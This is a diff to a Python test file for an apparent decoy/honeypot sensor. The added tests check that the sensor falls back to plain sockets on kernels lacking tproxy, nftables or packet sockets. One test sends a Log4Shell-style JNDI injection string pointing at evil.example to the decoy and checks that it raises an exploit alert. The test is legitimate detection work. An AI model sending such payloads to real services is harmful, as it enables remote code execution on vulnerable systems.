@@ -1,4 +1,4 @@
-"""The decoy in the static sensor: in an empty root, and on a kernel of 2013. test_decoy_sensor.py SENSOR OLD_KERNEL"""
+"""The decoy in the static sensor: in an empty root, on a kernel of 2013, and on kernels that lack a part. test_decoy_sensor.py SENSOR OLD_KERNEL POOR_KERNEL"""
 import os
 import pathlib
 import shutil
@@ -7,8 +7,8 @@ import sys
 
 from decoy_case import Decoy, DecoyCase, main, until
 
-SENSOR, OLD_KERNEL = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
-sys.argv[2:3] = []
+SENSOR, OLD_KERNEL, POOR_KERNEL = (os.path.abspath(a) for a in sys.argv[1:4])
+sys.argv[2:4] = []
 
 
 class Sensor(DecoyCase):
@@ -46,6 +46,52 @@ class Sensor(DecoyCase):
         self.assertIn("without Landlock", decoy.said())
         self.hears_and_answers(decoy)
         self.assertNotEqual(pathlib.Path(self.folder / "data/decoy/key").read_bytes(), bytes(32))
+
+    def without(self, parts, *options):
+        if subprocess.run([POOR_KERNEL, parts, "/bin/true"], stdout=subprocess.DEVNULL, check=False).returncode == 77:
+            self.skipTest("no seccomp filters here")
+        return self.wrapped([POOR_KERNEL, parts, SENSOR], self.folder / "data", *options)
+
+    def on_plain_sockets(self, parts, *options):
+        """Low ports and the list, all of it heard; what a service has is left alone, and what it had is too."""
+        real = self.server(self.host, 22, "real")
+        decoy = self.without(parts, *options)
+        self.assertEqual(self.says(self.peer, "10.9.0.1", 22), "+real\n")
+        self.assertEqual(self.network.on(self.host, "nft", "list", "ruleset"), "")
+        self.assertIn("+SSH-2.0", self.says(self.peer, "10.9.0.1", 2222))
+        listening = self.network.on(self.host, "ss", "-Hltn")
+        self.assertIn(":2222 ", listening)
+        self.assertNotIn("[::1]:2222 ", listening)
+        self.hears_and_answers(decoy)
+        real.kill()
+        real.wait()
+        decoy = self.without(parts)
+        self.assertEqual(self.says(self.peer, "10.9.0.1", 22), "ConnectionRefusedError\n")
+        decoy.stop()
+        return decoy.said()
+
+    def test_without_tproxy(self):
+        self.assertIn("answers on plain sockets", self.on_plain_sockets("tproxy"))
+
+    def test_without_nftables(self):
+        said = self.on_plain_sockets("nftables", "--answer", "all")
+        self.assertIn("this kernel has no nftables: answers on plain sockets instead", said)
+
+    def test_without_packet_sockets(self):
+        """It hears what it answers, and says that this is all."""
+        decoy = self.without("packet")
+        self.assertIn("tproxy", self.network.on(self.host, "nft", "list", "ruleset"))
+        self.assertIn("no packet sockets, so it hears connections to", decoy.said())
+        self.assertNotIn("without privileges", decoy.said())
+        self.assertIn("HTTP/1.1", self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n"))
+        until("the alert", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
+        decoy.stop()
+
+    def test_without_any_of_it(self):
+        said = self.without("tproxy,nftables,packet,tun")
+        self.assertIn("+SSH-2.0", self.says(self.peer, "10.9.0.1", 22))
+        said.stop()
+        self.assertIn("no packet sockets, so it hears connections to", said.said())
 
 
 if __name__ == "__main__":
